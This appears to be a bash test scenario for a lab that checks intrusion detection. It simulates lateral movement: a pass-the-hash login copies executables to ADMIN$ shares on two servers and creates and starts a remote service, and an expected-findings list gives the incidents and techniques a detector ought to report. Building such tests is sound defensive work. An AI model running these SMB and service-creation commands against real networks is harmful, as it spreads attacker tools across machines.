# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record and lab
title='From a workstation to a server, and from there on'
about="An intruder comes to a member server with a domain administrator's hash, leaves a tool there and goes on from that server to a
second one as its local administrator: two accounts, two sources, one way through the network."
server=mem1
others=(fs1)
filter=$domain_filter
account='LABDOM\dave'
by='hash'
expect='
incident admin-share-copy high unverified
incident service-exec critical unverified
account LABDOM\dave
account FS1\admin
technique T1021.002 T1543.003 T1569.002 T1570
step smb.tree.admin file.write.exe svcctl.create_service svcctl.start_service
hop 10.77.0.21 10.77.0.13 LABDOM\dave
hop 10.77.0.13 10.77.0.11 FS1\admin
access unverified
file write agent.exe pe32
file write update.exe pe32
'

run() {
  samba_login
  client smbclient "//$server_name/ADMIN\$" "${login[@]}" --use-kerberos=off -c 'put tool.exe agent.exe'
  connected 'IPC$' 'ADMIN$'
  wrote 'ADMIN$' agent.exe tool.exe
  same_on_disk 'ADMIN$' agent.exe tool.exe

  between mem1 fs1 'FS1\admin'
  samba_domain=FS1/
  samba_login
  client smbclient "//$server_ip/ADMIN\$" "${login[@]}" -c 'put setup.exe update.exe'
  same_on_disk 'ADMIN$' update.exe setup.exe
  client net rpc service create Update 'Update Service' '%SystemRoot%\update.exe' -S "$server_ip" "${login[@]}"
  client net rpc service start Update -S "$server_ip" "${login[@]}"
  connected 'IPC$' 'ADMIN$'
  wrote 'ADMIN$' update.exe setup.exe
}
